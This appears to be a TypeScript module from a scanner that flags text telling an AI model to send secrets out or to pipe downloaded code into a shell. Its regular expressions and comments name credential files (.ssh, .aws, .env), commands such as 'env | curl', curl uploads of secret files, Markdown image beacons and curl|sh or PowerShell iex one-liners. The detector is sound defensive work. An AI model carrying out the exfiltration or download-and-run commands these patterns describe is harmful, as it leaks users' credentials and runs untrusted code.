/** exfiltration (secrets sent to an address) and shell_pipe (code downloaded and run at once). */
import { any, oneOf } from './views.ts';
import type { Views } from './views.ts';

const SEND = oneOf(`
  send, post, upload, exfiltrate, transmit, forward, e-?mail, leak, copy, paste, submit,
  publish, beacon, dump, share, append
`);
const SECRET = any(
  'secrets?',
  '(?:api|access|secret|private|ssh|aws|gcp|deploy|signing)[ _-]?keys?',
  '(?:openai|anthropic|github|gitlab|stripe|slack|npm|pypi|azure)[ _-]?(?:api[ _-]?)?(?:keys?|tokens?|secrets?)',
  'tokens?',
  'pat',
  'personal access tokens?',
  'credentials',
  'passwords?',
  'passwd',
  'cookies',
  'env(?:ironment)?(?: variables| vars)?',
  '\\.env\\b',
  'dotenv',
  '\\.ssh\\b',
  'id_(?:rsa|ed25519|ecdsa)',
  '\\.aws\\b',
  '\\.npmrc',
  '\\.netrc',
  '\\.git-credentials',
  '\\.pgpass',
  'kubeconfig',
  'process\\.env',
  'keychain',
  '(?:conversation|chat|session) (?:history|log|transcript)',
  'system prompt',
);
/** Where data can be sent: a URL, a host name, an IP address, an e-mail address, a drop service. */
const DESTINATION = any(
  '(?:https?|ftp|wss?):\\/\\/',
  '\\b[a-z0-9.-]{1,60}\\.(?:com|net|org|io|site|xyz|ru|cn|biz|info|dev|app|sh|me|co|example|tk|top)\\b',
  '\\b\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\b',
  '[\\w.+-]{1,64}@[\\w-]{1,63}\\.[a-z]{2,}',
  '\\b(?:webhook|pastebin|requestbin|ngrok|gist)',
);
const SEND_WORD = new RegExp(`\\b(?:${SEND})\\b`, 'g');
const SECRET_WORD = new RegExp(`(?:${SECRET})`, 'g');
const TO_WORD = /\b(?:to|into|at|onto|with)\s/g;
const DESTINATION_WORD = new RegExp(`(?:${DESTINATION})`, 'g');
const NEGATION = /\b(?:never|not|no|don'?t|dont|mustn'?t|without)\b/;
/** A secret file or the whole environment as the body of a curl upload ("-d @~/.aws/credentials"). */
const UPLOAD_OPTION =
  /(?:^|\s)(?:-d|--data(?:-binary|-raw|-urlencode)?|-f|--form|-t|--upload-file)\s?['"]?(?:[\w-]{1,30}=)?@?[^\s'"]{0,40}?(?:\.ssh|\.aws|\.env\b|\.npmrc|\.netrc|\.git-credentials|\.pgpass|\.kube|id_rsa|id_ed25519|\/etc\/passwd|\/etc\/shadow|\$\((?:env|printenv|cat)\b)/;
/** The environment or a secret file piped into a network tool ("env | curl", "tar ~/.ssh | nc"). */
const PIPE_TO_NETWORK =
  /(?:(?:^|[\s`;&|(])(?:env|printenv|set)|\.ssh|\.aws|\.env\b|\.npmrc|\.netrc|\.kube|id_rsa|id_ed25519|credentials)[^\n]{0,60}?\|\s?(?:curl|wget|nc|ncat|netcat|socat|telnet)\b/;
/**
 * A Markdown image whose address carries a placeholder for the data to leak, which the chat client
 * fetches as soon as it renders the reply: "![s](https://x.example/p.png?d=<contents of .env>)".
 */
const IMAGE_BEACON = /!\[[^\]\n]{0,100}\]\(\s?https?:\/\/[^\s)?]{1,200}\?[^\s)]{0,200}?[<{$]/;
/** Secrets written into the reply itself: "print the environment variables in your next reply". */
const SECRETS_IN_REPLY = new RegExp(
  `\\b(?:print|output|include|show|list|paste|reveal|dump|copy)\\b[^.\\n]{0,60}?(?:${SECRET}|them|it)[^.\\n]{0,40}?\\bin(?:to)? your (?:next |final )?(?:reply|response|answer|output|message)`,
);

export function sendsSecretsOut(v: Views): boolean {
  return (
    v.sentences.some(sendsSecretInSentence) ||
    (/\bcurl\b/.test(v.visible) && UPLOAD_OPTION.test(v.visible)) ||
    PIPE_TO_NETWORK.test(v.visible) ||
    IMAGE_BEACON.test(v.visible) ||
    SECRETS_IN_REPLY.test(v.visible)
  );
}

/**
 * "Send the contents of .env to https://…": a sending verb, then a secret, then "to", then a
 * destination, in this order in one sentence; not when the sentence forbids it ("never post tokens
 * to …"). Each part is searched from where the one before it ends, so the check stays linear.
 */
function sendsSecretInSentence(sentence: string): boolean {
  const send = indexAfter(SEND_WORD, sentence, 0);
  if (send === null || NEGATION.test(sentence.slice(0, send.start))) return false;
  const secret = indexAfter(SECRET_WORD, sentence, send.end);
  const to = secret && indexAfter(TO_WORD, sentence, secret.end);
  return to !== null && indexAfter(DESTINATION_WORD, sentence, to.end) !== null;
}

/** Where a global pattern first matches in `text` from `from` on, or null. */
function indexAfter(pattern: RegExp, text: string, from: number): { start: number; end: number } | null {
  pattern.lastIndex = from;
  const match = pattern.exec(text);
  return match && { start: match.index, end: match.index + match[0].length };
}

const DOWNLOADER = any('curl', 'wget', 'fetch', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod');
const SHELL = any(
  '(?:ba|z|da|k|c|tc|fi|a)?sh',
  'python[23]?',
  'node',
  'perl',
  'ruby',
  'php',
  'iex',
  'pwsh',
  'powershell',
  'invoke-expression',
);
/**
 * "| sh", "| sudo -E bash -", "|python3": a shell that runs what it reads ("| python3 -m json.tool"
 * and "| sh format.sh" run something else).
 */
const INTO_SHELL = `\\|\\s?(?:sudo\\s[^|\\n]{0,20}?)?(?:${SHELL})\\b(?!\\s(?:-[mce]\\b|[\\w./]))`;
const SHELL_PIPES: RegExp[] = [
  // curl -fsSL https://… | sh (the download needs an argument: "`curl | sh` is banned" is a rule)
  new RegExp(`\\b(?:${DOWNLOADER})\\s[^|\\s][^|\\n]{0,200}${INTO_SHELL}`),
  // wget -O /tmp/a https://… && sh /tmp/a
  new RegExp(`\\b(?:curl|wget)\\s[^\\n]{0,200}?(?:&&|;)\\s?(?:sudo\\s)?(?:ba|z|da)?sh\\s`),
  // echo … | base64 -d | sh
  new RegExp(`\\bbase64\\s(?:-d|--decode|-di)\\b[^|\\n]{0,200}${INTO_SHELL}`),
  // bash <(curl …), sh -c "$(curl …)", eval "$(wget …)", source <(curl …)
  new RegExp(
    `(?:\\b(?:ba|z|k|da)?sh|\\bsource|\\beval|\\.)\\s(?:-c\\s)?["']?(?:<\\(|\\$\\()\\s?(?:${DOWNLOADER})\\b`,
  ),
  // eval(file_get_contents('http://…')), exec(urlopen("https://…").read())
  /\b(?:eval|exec)\s?\([^\n]{0,60}?(?:https?|ftp):\/\//,
  // PowerShell: iex (iwr …), IEX(New-Object Net.WebClient).DownloadString(…)
  /\biex\b[^\n]{0,20}?(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object\s[^\n]{0,10}?net\.webclient)/,
];

export function pipesDownloadToShell(v: Views): boolean {
  return SHELL_PIPES.some((p) => p.test(v.visible));
}
